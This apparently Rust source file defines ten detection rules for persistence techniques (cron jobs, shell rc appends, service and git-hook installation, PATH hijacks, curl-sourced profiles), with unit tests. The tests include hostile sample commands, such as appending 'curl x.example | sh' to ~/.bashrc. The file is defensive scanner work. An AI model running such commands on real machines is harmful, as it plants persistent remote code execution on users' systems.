//! Persistence rules (PERSIST-001 to PERSIST-008).

use crate::model::{Rule, Severity, ThreatCategory};

pub(crate) fn rules() -> Vec<Rule> {
    vec![
        Rule::builder(
            "PERSIST-001",
            "Cron installation",
            ThreatCategory::Persistence,
            Severity::High,
        )
        .description("crontab edits or drops into /etc/cron.* from scanned content")
        .pattern(r"crontab\s+(?:-\w\s+)*\S+\.(?:sh|txt)")
        .pattern(r"(?:>>?|cp\s+[^\n]*\s)/etc/cron\.(?:d|daily|hourly|weekly)/")
        .pattern(r"echo\s+[^\n]*\|\s*crontab\b")
        .remediation("Scheduled jobs must be provisioned by the machine owner, not agent config")
        .reference("https://attack.mitre.org/techniques/T1053/003/")
        .build(),
        Rule::builder(
            "PERSIST-002",
            "Shell rc file modification",
            ThreatCategory::Persistence,
            Severity::High,
        )
        .description("Appends to .bashrc/.zshrc/.profile that survive the current session")
        .pattern(r">>\s*[^\n]*\.(?:bashrc|zshrc|profile|bash_profile|zprofile)\b")
        .remediation("Remove the append; startup files are user-owned")
        .build(),
        Rule::builder(
            "PERSIST-003",
            "Service registration",
            ThreatCategory::Persistence,
            Severity::Medium,
        )
        .description("launchd/systemd unit installation or activation")
        .pattern(r"launchctl\s+(?:load|bootstrap)\b")
        .pattern(r"systemctl\s+(?:enable|start)\s+\S+|/etc/systemd/system/")
        .pattern(r"/Library/Launch(?:Agents|Daemons)/")
        .remediation("Services belong to system provisioning, not agent tooling")
        .build(),
        Rule::builder(
            "PERSIST-004",
            "Git hook installation",
            ThreatCategory::Persistence,
            Severity::Medium,
        )
        .description("Writes into .git/hooks, executing on every future git operation")
        .pattern(r"(?:>>?|cp\s+[^\n]*\s|ln\s+-s[^\n]*\s)[^\n]*\.git/hooks/(?:pre-|post-|prepare-)")
        .remediation("Install git hooks through the project's documented tooling only")
        .build(),
        Rule::builder(
            "PERSIST-005",
            "Autostart entry",
            ThreatCategory::Persistence,
            Severity::Medium,
        )
        .description("Desktop autostart or rc.local registration")
        .pattern(r"\.config/autostart/|/etc/rc\.local\b|StartupItems")
        .remediation("Remove the autostart hook")
        .build(),
        Rule::builder(
            "PERSIST-006",
            "Self-copy into hidden directory",
            ThreatCategory::Persistence,
            Severity::Low,
        )
        .description("A script copying itself or other payloads into a dot-directory")
        .pattern(r#"cp\s+[^\n]*\s+(?:~|\$HOME)/\.[a-z0-9_\-]+/"#)
        .exclude_pattern(r"\.config/|\.local/share|\.cache/")
        .remediation("Write under the project tree, not hidden home directories")
        .build(),
        Rule::builder(
            "PERSIST-007",
            "Command alias override",
            ThreatCategory::Persistence,
            Severity::Medium,
        )
        .description("Aliasing common commands (ls, git, ssh, sudo) to something else")
        .pattern(r"alias\s+(?:ls|cd|cat|git|ssh|sudo|curl)\s*=")
        .remediation("Remove the alias; shadowed commands hide malicious behavior")
        .build(),
        Rule::builder(
            "PERSIST-008",
            "PATH hijack",
            ThreatCategory::Persistence,
            Severity::Medium,
        )
        .description("Prepending a writable directory to PATH so lookups hit it first")
        .pattern(r"export\s+PATH\s*=\s*(?:~|\$HOME|/tmp|\.)[^\n]*:\$PATH")
        .remediation("Append, never prepend, and avoid world-writable directories on PATH")
        .build(),
        Rule::builder(
            "PERSIST-009",
            "LaunchAgent plist authored inline",
            ThreatCategory::Persistence,
            Severity::High,
        )
        .description("A property list with RunAtLoad/ProgramArguments written from a script")
        .pattern(r"(?s)<key>\s*RunAtLoad\s*</key>.{0,120}?<true\s*/>")
        .pattern(r"defaults\s+write\s+[^\n]*LaunchAgents")
        .remediation("Launch agents are machine-owner territory; remove the inline plist")
        .build(),
        Rule::builder(
            "PERSIST-010",
            "Remote-sourced shell profile",
            ThreatCategory::Persistence,
            Severity::High,
        )
        .description("source/eval of remote content from startup-adjacent scripts")
        .pattern(r"(?:source|\.)\s+<\(\s*(?:curl|wget)\b")
        .pattern(r"eval\s+\x22?\$\(\s*(?:curl|wget)\b")
        .remediation("Never source remote content; vendor it and review the diff")
        .build(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(id: &str) -> Rule {
        rules().into_iter().find(|r| r.id == id).unwrap()
    }

    #[test]
    fn persist_001_matches_cron_pipe() {
        let r = rule("PERSIST-001");
        assert!(r.patterns[2]
            .regex
            .is_match(r#"echo "* * * * * /tmp/x.sh" | crontab -"#));
    }

    #[test]
    fn persist_002_matches_rc_append() {
        let r = rule("PERSIST-002");
        assert!(r.patterns[0]
            .regex
            .is_match("echo 'curl x.example | sh' >> ~/.bashrc"));
    }

    #[test]
    fn persist_008_matches_path_prepend() {
        let r = rule("PERSIST-008");
        assert!(r.patterns[0].regex.is_match("export PATH=/tmp/bin:$PATH"));
        assert!(!r.patterns[0].regex.is_match("export PATH=$PATH:/usr/local/bin"));
    }
}
